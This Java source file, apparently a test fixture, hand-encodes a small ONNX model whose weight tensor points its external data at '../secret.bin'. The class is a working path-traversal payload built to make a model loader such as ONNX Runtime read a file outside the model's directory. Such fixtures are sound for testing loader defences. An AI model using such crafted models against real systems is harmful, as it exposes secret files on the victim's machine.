package dev.mantlet.examples.chequedesk;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;

/**
 * A small valid ONNX model (y = x + w) whose weights are to be read from {@code ../secret.bin}:
 * ONNX Runtime 1.20 reads such a file, wherever it lies. Field numbers are those of onnx.proto3.
 */
final class EscapingModel {
  private static final int VARINT = 0;
  private static final int BYTES = 2;

  private final ByteArrayOutputStream out = new ByteArrayOutputStream();

  private EscapingModel() {}

  static byte[] bytes() {
    EscapingModel location = message().text(1, "location").text(2, "../secret.bin");
    EscapingModel weights =
        message().number(1, 4).number(2, 1).text(8, "w").part(13, location).number(14, 1);
    EscapingModel add = message().text(1, "x").text(1, "w").text(2, "y").text(4, "Add");
    EscapingModel graph =
        message()
            .part(1, add)
            .text(2, "graph")
            .part(5, weights)
            .part(11, floats("x"))
            .part(12, floats("y"));
    return message().number(1, 8).part(7, graph).part(8, message().number(2, 13)).out.toByteArray();
  }

  /** ValueInfoProto of a tensor of four floats. */
  private static EscapingModel floats(String name) {
    EscapingModel shape = message().part(1, message().number(1, 4));
    EscapingModel tensor = message().number(1, 1).part(2, shape);
    return message().text(1, name).part(2, message().part(1, tensor));
  }

  private static EscapingModel message() {
    return new EscapingModel();
  }

  private EscapingModel number(int field, int value) {
    out.write(field << 3 | VARINT);
    out.write(value);
    return this;
  }

  private EscapingModel text(int field, String value) {
    return raw(field, value.getBytes(StandardCharsets.UTF_8));
  }

  private EscapingModel part(int field, EscapingModel message) {
    return raw(field, message.out.toByteArray());
  }

  /**
   * Every part here is shorter than 128 bytes but the graph, so lengths have one or two varint
   * bytes.
   */
  private EscapingModel raw(int field, byte[] value) {
    out.write(field << 3 | BYTES);
    if (value.length > 127) {
      out.write(value.length & 0x7f | 0x80);
      out.write(value.length >> 7);
    } else {
      out.write(value.length);
    }
    out.writeBytes(value);
    return this;
  }
}
